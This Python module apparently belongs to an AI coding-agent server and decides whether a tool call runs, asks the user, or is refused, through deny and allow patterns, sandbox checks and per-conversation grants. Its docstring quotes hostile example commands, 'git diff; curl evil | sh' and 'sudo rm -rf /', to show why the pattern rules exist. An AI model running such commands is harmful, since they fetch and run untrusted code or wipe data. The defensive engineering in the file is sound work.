"""The approval policy: whether one tool call runs at once, asks the user first, or is refused.

Pure: `decide` reads an agent's `Permissions`, what the call would do (`Access`), the
conversation's working directory and the grants the user gave for this conversation, and returns
a decision the agent loop carries out. docs/security.md describes the rules as a user sees them:

- `deny` patterns refuse a shell command whatever the approval mode (even with no sandbox).
- `always`: every shell command not matching `allow`, and every write, asks.
- `escalate`: what the sandbox allows runs at once; what it would block asks, and if the user
  allows it that one call runs outside the sandbox.
- `never`: nothing asks; what the sandbox would block is refused with a clear error.

Patterns use `*` as their only wildcard (anything, spaces included); every other character is
literal, so `?` and `[` in a command never surprise anyone. Because `git diff*` must not let
`git diff; curl evil | sh` through, an `allow` pattern (and a remembered grant) never matches a
command holding a shell control operator. A `deny` pattern errs the other way: it is tried on
every simple command of the line and on each of their tails, so `cd x && sudo rm -rf /` meets
`rm -rf /*`. Deny patterns are a tripwire, not a boundary: the sandbox is the boundary.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Literal

from openvaala_server.domain.permissions import (
    MODE_BOUND,
    Access,
    Permissions,
    repository_part,
)

Answer = Literal["allow", "allow_conversation", "deny"]
ANSWERS: tuple[Answer, ...] = ("allow", "allow_conversation", "deny")

# Anything that lets one command line run a second command, redirect, or substitute output.
_CONTROL = re.compile(r";|&|\||`|\$\(|<|>|\n|\r")
# Where a command line splits into simple commands, for deny matching (errs on splitting more).
_SEGMENT_SPLIT = re.compile(r"&&|\|\||;|&|\||`|\$\(|\(|\)|<|>|\n|\r")


@dataclass(frozen=True)
class Run:
    """Run the call now; `outside_sandbox` for a call the user's grant lets past the sandbox."""

    outside_sandbox: bool = False


@dataclass(frozen=True)
class Ask:
    """Ask the user first. `reason` is what the prompt shows; `outside_sandbox`: if allowed, the
    call runs outside the sandbox (the sandbox would block it)."""

    reason: str
    outside_sandbox: bool = False


@dataclass(frozen=True)
class Refuse:
    """Never run it; `reason` becomes the tool's error result."""

    reason: str


Decision = Run | Ask | Refuse


GrantKind = Literal["command", "path", "tool"]
GRANT_KINDS: tuple[GrantKind, ...] = ("command", "path", "tool")


@dataclass(frozen=True)
class Grant:
    """An "allow for this conversation": same tool, and the same command or the same path.

    `kind` is "command" (pattern: the exact command, runs of spaces and tabs as one space), "path"
    (pattern: an absolute path, symlinks resolved) or "tool" (an MCP tool, every call of it).
    `outside_sandbox`: the approved call ran
    outside the sandbox, so matching calls may too; otherwise the grant only skips the question.
    """

    tool: str
    kind: GrantKind
    pattern: str
    outside_sandbox: bool = False


# -- patterns -----------------------------------------------------------------------------


def has_control_operator(command: str) -> bool:
    return _CONTROL.search(command) is not None


@lru_cache(maxsize=256)
def _compile(pattern: str) -> re.Pattern[str]:
    parts = (re.escape(part) for part in _squash(pattern).split("*"))
    return re.compile(".*".join(parts), re.DOTALL)


# Runs of the two characters bash splits words on (besides newline, a control operator).
_BLANKS = re.compile(r"[ \t]+")
# What a command may hold to be allowed by a pattern or a grant: printable ASCII, space, tab.
_PLAIN = re.compile(r"[ \t\x21-\x7e]*")


def _squash(text: str) -> str:
    """Runs of spaces and tabs as one space, none at the ends: only what bash itself reads as
    one word break. `str.split()` also splits on \v, \f, \x1c-\x1f, U+0085, U+00A0, U+2028,
    which bash keeps inside a word, so `./gradlew<VT>build` (one program) read as `./gradlew
    build` (docs/security.md, "Approvals")."""
    return _BLANKS.sub(" ", text).strip(" ")


def is_plain(command: str) -> bool:
    """Only printable ASCII, spaces and tabs: what the user reads is what bash reads."""
    return _PLAIN.fullmatch(command) is not None


NOT_PLAIN = (
    "the command holds characters other than printable ASCII, spaces and tabs (an invisible "
    "or look-alike character can make bash read another command than the one shown), so it "
    "can only be allowed once"
)


def pattern_matches(pattern: str, text: str) -> bool:
    """Whole-text match; `*` matches anything, runs of spaces and tabs count as one space."""
    return _compile(pattern).fullmatch(_squash(text)) is not None


def allowed_by(patterns: Iterable[str], command: str) -> str | None:
    """The `allow` pattern matching `command`, or None. Never one with control operators, nor
    one with characters other than printable ASCII, spaces and tabs (`is_plain`)."""
    if has_control_operator(command) or not is_plain(command):
        return None
    return next((p for p in patterns if pattern_matches(p, command)), None)


def denied_by(patterns: Sequence[str], command: str) -> str | None:
    """The `deny` pattern matching `command` or any simple command in it (or a tail of one)."""
    if not patterns:
        return None
    for candidate in _deny_candidates(command):
        for pattern in patterns:
            if pattern_matches(pattern, candidate):
                return pattern
    return None


def _deny_candidates(command: str) -> list[str]:
    candidates = [command]
    for segment in _SEGMENT_SPLIT.split(command):
        for words in (segment.split(), _unquoted_words(segment)):
            # Each tail: `sudo rm -rf /`, `env X=1 rm -rf /` meet `rm -rf /*` too.
            candidates.extend(" ".join(words[i:]) for i in range(len(words)))
    return candidates


def _unquoted_words(segment: str) -> list[str]:
    """The words as the shell reads them (`r"m" -rf` is `rm -rf`), or none if unparsable."""
    try:
        return shlex.split(segment)
    except ValueError:
        return []


# -- grants -------------------------------------------------------------------------------


@dataclass(frozen=True)
class GrantOffer:
    """What "allow for this conversation" of one asked call would remember, and `scope`: the
    same in words, which every client shows before the user answers (docs/security.md)."""

    grants: tuple[Grant, ...]
    scope: str


@dataclass(frozen=True)
class NoGrant:
    """This call can be allowed once only; `reason` says why (clients show it)."""

    reason: str


def grant_offer(tool: str, access: Access, outside_sandbox: bool) -> GrantOffer | NoGrant:
    """The grant an "allow for this conversation" of this call makes: the exact command and
    the exact paths the prompt shows, never a prefix — `git push origin main` allowed must not
    allow `git push --receive-pack=… origin main`, nor `python3 -c A` any `python3 -c B`."""
    where = ", outside the sandbox" if outside_sandbox else ""
    grants: list[Grant] = []
    parts: list[str] = []
    if access.command is not None:
        if has_control_operator(access.command):
            return NoGrant(
                "the command uses a shell operator or substitution (;, &&, |, >, <, $( or `), "
                "so it can only be allowed once"
            )
        if not is_plain(access.command):
            return NoGrant(NOT_PLAIN)
        command = _squash(access.command)
        grants.append(Grant(tool, "command", command, outside_sandbox))
        parts.append(f"exactly the command `{command}`")
    for path in access.writes:
        grants.append(Grant(tool, "path", str(path), outside_sandbox))
    if access.writes:
        parts.append("writes to exactly " + ", ".join(str(p) for p in access.writes))
    if not grants:
        return NoGrant("this call names no command or file a grant could be kept for")
    return GrantOffer(tuple(grants), f"{tool}: {' and '.join(parts)}{where}; nothing else")


def grants_for(tool: str, access: Access, outside_sandbox: bool) -> list[Grant]:
    """What "allow for this conversation" of this call remembers; [] when it cannot be
    remembered safely (then the answer allows this one call only)."""
    offer = grant_offer(tool, access, outside_sandbox)
    return list(offer.grants) if isinstance(offer, GrantOffer) else []


def _covered(grants: Sequence[Grant], tool: str, access: Access, outside_sandbox: bool) -> bool:
    mine = [g for g in grants if g.tool == tool and (g.outside_sandbox or not outside_sandbox)]
    if access.command is None and not access.writes:
        return False
    if access.command is not None:
        # The exact command only (runs of spaces and tabs count as one); a record of an older
        # version that kept a prefix (`git push`) now covers that exact text alone.
        if has_control_operator(access.command) or not is_plain(access.command):
            return False
        command = _squash(access.command)
        if not any(g.kind == "command" and _squash(g.pattern) == command for g in mine):
            return False
    paths = {g.pattern for g in mine if g.kind == "path"}
    return all(str(path) in paths for path in access.writes)


# -- the decision -------------------------------------------------------------------------


def decide(
    permissions: Permissions,
    tool: str,
    access: Access | None,
    workspace: Path,
    grants: Sequence[Grant] = (),
    protected: Sequence[Path] = (),
) -> Decision:
    """What to do with one call of `tool`. `workspace` and `protected` are resolved paths.

    `access` None: the tool touches nothing the sandbox guards (the collaboration tools)."""
    if access is None:
        return Run()
    refused = _refused(permissions, access, protected)
    if refused is not None:
        return refused
    blocked = _blocked(permissions, access, workspace)
    if blocked:
        unaskable = _unaskable(permissions, access, workspace)
        if unaskable is not None:
            return unaskable
    reasons = list(dict.fromkeys([*blocked, *_asks_first(permissions, access, bool(blocked))]))
    if not reasons:
        return Run()
    if _covered(grants, tool, access, bool(blocked)):
        return Run(outside_sandbox=bool(blocked))
    return Ask("; ".join(reasons), outside_sandbox=bool(blocked))


def _refused(permissions: Permissions, access: Access, protected: Sequence[Path]) -> Refuse | None:
    """A call no answer may allow: a write to our own directories, a denied command."""
    for path in access.writes:
        if any(_within(path, p) for p in protected):
            return Refuse(
                f"Refused: {path} is in the OpenVaala data or configuration directory, "
                "which no tool may change."
            )
    if access.command is not None:
        pattern = denied_by(permissions.deny, access.command)
        if pattern is not None:
            return Refuse(
                f"Refused: the command matches the deny pattern {pattern!r} of this agent's "
                "configuration. It did not run."
            )
    return None


def _unaskable(permissions: Permissions, access: Access, workspace: Path) -> Refuse | None:
    """A call the sandbox blocks that nobody may be asked to allow: plan mode, or an approval
    setting of "never" (the agent's or one above it)."""
    if _in_plan_mode(permissions):
        why = "; ".join(_blocked(permissions, access, workspace, for_refusal=True))
        return Refuse(
            f"Refused: {why}. The conversation is in plan mode (read-only): nothing may "
            "change until the user switches the permission mode. It did not run."
        )
    if "never" in permissions.approvals:
        why = "; ".join(_blocked(permissions, access, workspace, for_refusal=True))
        whose = (
            "this agent's approval setting is"
            if permissions.approval == "never"
            else "the approval setting of an agent that started this one is"
        )
        return Refuse(
            f"Refused: {why}. The sandbox does not allow that, and {whose} "
            '"never", so nobody can allow it. It did not run.'
        )
    return None


def no_way_out(permissions: Permissions) -> str | None:
    """Why no call may ask to run outside the sandbox (plan mode, or an approval setting of
    "never"), None when one may: a failed command then does not suggest asking for it
    (docs/security.md, "Permission modes")."""
    if _in_plan_mode(permissions):
        return (
            "The conversation is in plan mode (read-only): nothing may change until the user "
            "switches the permission mode, so do not ask to run it outside the sandbox"
        )
    if "never" in permissions.approvals:
        return (
            'The approval setting is "never": nobody can allow a command outside the sandbox, '
            "so do not ask for it"
        )
    return None


def _asks_first(permissions: Permissions, access: Access, blocked: bool) -> list[str]:
    """Why an approval setting of "always" asks first, at each level of the agent chain (a
    subagent passes its own approval rules and each ancestor's: domain/inheritance.py)."""
    reasons: list[str] = []
    levels = [("", permissions.approval, permissions.allow)]
    levels += [(b.agent, b.approval, b.allow) for b in permissions.inherited]
    for agent, approval, allow in levels:
        if approval != "always":
            continue
        rule = _rule_words(agent)
        if access.command is not None and allowed_by(allow, access.command) is None:
            reasons.append(f"{rule}: shell commands not in `allow` ask first")
        if access.writes and not blocked:
            reasons.append(f"{rule}: every write asks first")
    return reasons


def _in_plan_mode(permissions: Permissions) -> bool:
    return any(b.agent == MODE_BOUND and b.approval == "never" for b in permissions.inherited)


def _rule_words(agent: str) -> str:
    """Whose `always` makes a call ask: the agent's, one above it, or the conversation's mode."""
    if agent == MODE_BOUND:
        return 'the permission mode is "ask"'
    if agent:
        return f'the approval of {agent!r}, which started this agent, is "always"'
    return 'approval is "always"'


def _blocked(
    permissions: Permissions, access: Access, workspace: Path, *, for_refusal: bool = False
) -> list[str]:
    """Why the sandbox would stop this call, one phrase per reason (none: it may run).

    A request to leave the sandbox is put in the model's own words (its justification), which
    is what the user weighs; a refusal tells the model what it asked for instead."""
    if permissions.sandbox == "off":
        return []
    reasons: list[str] = []
    if access.outside_sandbox is not None:
        if for_refusal:
            reasons.append("the call asks to run outside the sandbox")
        else:
            reasons.append(
                access.outside_sandbox.strip()
                or "the model asks to run this outside the sandbox (it gave no reason)"
            )
    if access.network is not None and not permissions.network:
        reasons.append(f"reaches {access.network} over the network, which this agent may not use")
    if permissions.sandbox == "read-only":
        reasons.extend(f"writes {p}, and the sandbox is read-only" for p in access.writes)
    else:
        reasons.extend(
            f"writes {p}, outside the working directory {workspace}"
            for p in access.writes
            if not _within(p, workspace)
        )
        reasons.extend(
            f"writes {p}, inside {vcs}, which the sandbox keeps read-only (what is there, "
            "hooks and config, runs unconfined at your next command in this repository)"
            for p in access.writes
            if (vcs := repository_part(p, workspace))
        )
    return reasons


def _within(path: Path, root: Path) -> bool:
    return path == root or root in path.parents
